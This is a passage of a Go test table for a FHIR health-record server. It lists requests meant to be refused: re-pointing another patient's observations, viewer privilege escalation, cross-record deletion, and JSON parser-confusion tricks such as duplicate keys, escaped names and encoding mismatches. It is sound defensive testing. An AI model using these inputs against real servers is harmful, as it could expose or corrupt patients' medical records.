			method: "POST", path: "/fhir",
			body: bundle("transaction",
				entry("", "POST", "Observation", obsAbout("Patient/{alice}")),
				entry("", "PATCH", "Observation/{aliceObs}", fhirPathPatch("replace", "Observation.subject",
					`{"name":"value","valueReference":{"reference":"Patient/{bob}"}}`))),
			want: unprocessable},
		{name: "transaction: a FHIRPath Patch entry deleting the subject of alice's Observation",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "PATCH", "Observation/{aliceObs}", fhirPathPatch("delete", "Observation.subject"))),
			want: unprocessable},
		{name: "transaction: a conditional PATCH entry (Observation?code=<bob-only code>) re-pointing it at alice",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "PATCH", "Observation?code={bobOnlyCode}",
				binaryJSONPatch(`[{"op":"replace","path":"/subject/reference","value":"Patient/{alice}"}]`))),
			want: refused(404, 412, 422)},
		{name: "transaction: a PATCH entry on bob's Observation by id re-pointing it at alice",
			method: "POST", path: "/fhir",
			body: bundle("transaction", entry("", "PATCH", "Observation/{bobObs2}",
				binaryJSONPatch(`[{"op":"replace","path":"/subject/reference","value":"Patient/{alice}"}]`))),
			want: refused(404, 412, 422)},
		{name: "batch: a JSON Patch entry removing the subject of alice's Observation",
			method: "POST", path: "/fhir",
			body: bundle("batch", entry("", "PATCH", "Observation/{aliceObs}", binaryJSONPatch(`[{"op":"remove","path":"/subject"}]`))),
			want: unprocessable},
		{name: "transaction: two entries share one urn:uuid (the alias points two ways)",
			method: "POST", path: "/fhir",
			body: bundle("transaction",
				entry("urn:uuid:8c0c4d5e-0000-4000-8000-000000000004", "PUT", "Patient/{alice}", `{"resourceType":"Patient","id":"{alice}","name":[{"family":"Smith","given":["Alice"]}],"gender":"female","birthDate":"1980-04-02"}`),
				entry("urn:uuid:8c0c4d5e-0000-4000-8000-000000000004", "PUT", "Patient/{bob}", `{"resourceType":"Patient","id":"{bob}"}`),
				entry("", "POST", "Observation", obsAbout("urn:uuid:8c0c4d5e-0000-4000-8000-000000000004"))),
			want: unprocessable},
		{name: "transaction: ifNoneExist naming bob",
			method: "POST", path: "/fhir",
			body: `{"resourceType":"Bundle","type":"transaction","entry":[{"resource":` + obsAbout("Patient/{alice}") +
				`,"request":{"method":"POST","url":"Observation","ifNoneExist":"subject=Patient/{bob}"}}]}`,
			want: unprocessable},
		{name: "a document Bundle about bob posted to the base by a member",
			method: "POST", path: "/fhir", body: bundle("document", entry("", "POST", "Observation", obsAbout("Patient/{bob}"))), want: badRequest},

		// --- A viewer of bob's record tries to write ----------------------------------------------
		{name: "viewer: PUT bob's Observation", as: "carol", host: "bob-home", method: "PUT", path: "/fhir/Observation/{bobObs}",
			body: obs(`"id":"{bobObs}","subject":{"reference":"Patient/{bob}"}`), want: forbidden},
		{name: "viewer: DELETE bob's Observation", as: "carol", host: "bob-home", method: "DELETE", path: "/fhir/Observation/{bobObs}", want: forbidden},
		{name: "viewer: PATCH bob's Observation", as: "carol", host: "bob-home", method: "PATCH", path: "/fhir/Observation/{bobObs}",
			headers: jsonPatch, body: `[{"op":"replace","path":"/status","value":"entered-in-error"}]`, want: forbidden},
		{name: "viewer: create an Observation about bob", as: "carol", host: "bob-home", method: "POST", path: "/fhir/Observation",
			body: obsAbout("Patient/{bob}"), want: forbidden},
		{name: "viewer: conditional DELETE Observation?code=<bob-only code>", as: "carol", host: "bob-home",
			method: "DELETE", path: "/fhir/Observation?code=http://loinc.org|{bobOnlyCode}", want: forbidden},
		{name: "viewer: invites herself as owner of bob's record", as: "carol", host: "apex",
			method: "POST", path: "/pfr/v1/records/bob-home/invitations", body: `{"role":"owner"}`, want: refused(403, 404)},

		// --- Management API on bob's record -------------------------------------------------------
		{name: "alice deletes bob's record", host: "apex", method: "DELETE", path: "/pfr/v1/records/bob-home", want: notFound},
		{name: "alice deletes bob's record, confirming it", host: "apex", method: "DELETE", path: "/pfr/v1/records/bob-home",
			headers: []string{"X-PFR-Confirm-Delete", "bob-home"}, want: notFound},
		{name: "carol (bob's viewer) deletes bob's record, confirming it", as: "carol", host: "apex", method: "DELETE",
			path: "/pfr/v1/records/bob-home", headers: []string{"X-PFR-Confirm-Delete", "bob-home"}, want: refused(403)},
		{name: "alice lists bob's members", host: "apex", method: "GET", path: "/pfr/v1/records/bob-home/members", want: notFound},
		{name: "alice invites herself to bob's record", host: "apex", method: "POST", path: "/pfr/v1/records/bob-home/invitations",
			body: `{"role":"owner"}`, want: notFound},

		// --- JSON that could be read two ways -------------------------------------------------------
		{name: "duplicate subject members: alice first, bob second", method: "POST", path: "/fhir/Observation",
			body: obs(`"subject":{"reference":"Patient/{alice}"},"subject":{"reference":"Patient/{bob}"}`), want: badRequest},
		{name: "duplicate subject members, the second spelled with an escape (subj\\u0065ct)", method: "POST", path: "/fhir/Observation",
			body: obs(`"subject":{"reference":"Patient/{alice}"},"subj\u0065ct":{"reference":"Patient/{bob}"}`), want: badRequest},
		{name: "duplicate reference members inside subject", method: "POST", path: "/fhir/Observation",
			body: obs(`"subject":{"reference":"Patient/{alice}","reference":"Patient/{bob}"}`), want: badRequest},
		{name: "duplicate resourceType members (Observation, then Patient)", method: "POST", path: "/fhir/Observation",
			body: `{"resourceType":"Observation","resourceType":"Patient","id":"{bob}"}`, want: badRequest},
		{name: "invalid UTF-8 inside the subject reference", method: "POST", path: "/fhir/Observation",
			body: obsAbout("Patient/{alice}\xff\xfe/../{bob}"), want: badRequest},
		{name: "a UTF-8 byte order mark before the body", method: "POST", path: "/fhir/Observation",
			body: "\uFEFF" + obsAbout("Patient/{bob}"), want: refused(400, 422)},
		{name: "nesting 150 levels deep", method: "POST", path: "/fhir/Observation",
			body: obs(`"subject":{"reference":"Patient/{alice}"},"extension":[` + deep + `]`), want: badRequest},
		{name: "a second JSON object after the resource", method: "POST", path: "/fhir/Observation",
			body: obsAbout("Patient/{alice}") + obsAbout("Patient/{bob}"), want: badRequest},
		{name: "resourceType of the body (bob's Patient) differs from the URL (Observation)", method: "POST", path: "/fhir/Observation",
			body: `{"resourceType":"Patient","id":"{bob}","name":[{"family":"Jones"}]}`, want: refused(400, 422)},
		{name: "id of the body (bob's Observation) differs from the URL (alice's Observation)", method: "PUT", path: "/fhir/Observation/{aliceObs}",
			body: obs(`"id":"{bobObs}","subject":{"reference":"Patient/{alice}"}`), want: refused(400, 422)},
		{name: "an XML body", method: "POST", path: "/fhir/Observation", headers: []string{"Content-Type", "application/fhir+xml"},
			body: `<Observation xmlns="http://hl7.org/fhir"><subject><reference value="Patient/{bob}"/></subject></Observation>`, want: refused(415)},
		{name: "a UTF-16 body (charset=utf-16) about bob", method: "POST", path: "/fhir/Observation",
			headers: []string{"Content-Type", "application/fhir+json; charset=utf-16"}, body: utf16(obsAbout("Patient/{bob}")), want: refused(400, 415)},
		{name: "a text/plain body holding JSON about bob", method: "POST", path: "/fhir/Observation", headers: []string{"Content-Type", "text/plain"},
			body: obsAbout("Patient/{bob}"), want: refused(415)},
	}
}

// utf16 encodes s (ASCII) as UTF-16LE with a byte order mark.
func utf16(s string) string {
	b := []byte{0xff, 0xfe}
	for i := 0; i < len(s); i++ {
		b = append(b, s[i], 0)
	}
	return string(b)
}
